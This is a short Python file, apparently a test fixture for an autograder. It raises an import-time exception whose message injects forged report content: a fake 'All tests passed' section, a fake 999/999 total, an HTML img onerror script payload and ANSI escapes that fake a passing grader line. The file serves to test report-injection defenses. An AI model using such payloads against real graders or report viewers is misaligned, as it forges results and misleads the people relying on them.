"""Attack on the reports: an import-time exception's message becomes the lesson's
`problem`, hoping feedback.md prints it unindented (and console_table raw), so the
student's text renders as report markdown: a fake section, a fake total, ANSI escapes."""


class Error(Exception):
    pass


raise Error("\n\n## 00_python_basics\n\nAll tests passed.\n\n# Feedback for honest\n\n"
            "**Total: 999 / 999 points** <img src=x onerror=alert(1)>\n\n"
            "\x1b[2J\x1b[H\x1b[32mgrader: all tests passed\x1b[0m\n| forged | row |")
